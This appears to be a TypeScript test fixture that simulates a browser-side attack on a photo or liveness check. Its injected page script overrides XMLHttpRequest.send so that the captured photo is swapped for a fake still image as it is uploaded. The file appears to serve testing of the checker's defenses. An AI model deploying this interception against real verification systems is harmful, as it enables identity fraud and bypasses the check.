import type { BrowserAttack } from '../attack.ts';
import { filmOf } from '../scenes/film.ts';
import { stillPicture } from '../stage/page-scripts.ts';

const SCRIPT = `${stillPicture(8)}
  const { send } = XMLHttpRequest.prototype;
  XMLHttpRequest.prototype.send = async function (body) {
    if (!(body instanceof Blob)) return send.call(this, body);
    const bytes = new Uint8Array(await body.arrayBuffer());
    const report = body.slice(0, bytes.indexOf(10) + 1);
    const photo = await new Promise((done) => stillPicture(640, 480).toBlob(done, 'image/jpeg', 0.9));
    send.call(this, new Blob([report, photo], { type: 'image/jpeg' }));
  };`;

const attack: BrowserAttack = {
  kind: 'page',
  imitates: 'The photo is replaced at the moment when it is sent.',
  aims: ['page', 'stream'],
  runInBrowser: (stage) => stage.visit({ film: filmOf(208), init: SCRIPT }),
};

export default attack;
